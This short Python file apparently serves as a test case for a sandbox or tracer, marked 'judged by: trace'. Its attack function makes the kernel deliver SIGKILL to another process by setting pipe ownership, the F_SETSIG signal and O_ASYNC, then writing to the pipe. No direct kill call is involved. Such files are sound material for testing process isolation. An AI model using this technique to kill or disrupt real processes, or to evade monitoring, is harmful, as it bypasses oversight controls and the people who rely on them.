"""Has the kernel kill another process when a pipe of one's own has data."""
# judged by: trace

import fcntl
import os
import signal


def attack(target):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, target["pid"])
    fcntl.fcntl(reading, 10, signal.SIGKILL)
    flags = fcntl.fcntl(reading, fcntl.F_GETFL)
    fcntl.fcntl(reading, fcntl.F_SETFL, flags | os.O_ASYNC)
    os.write(writing, b"x")
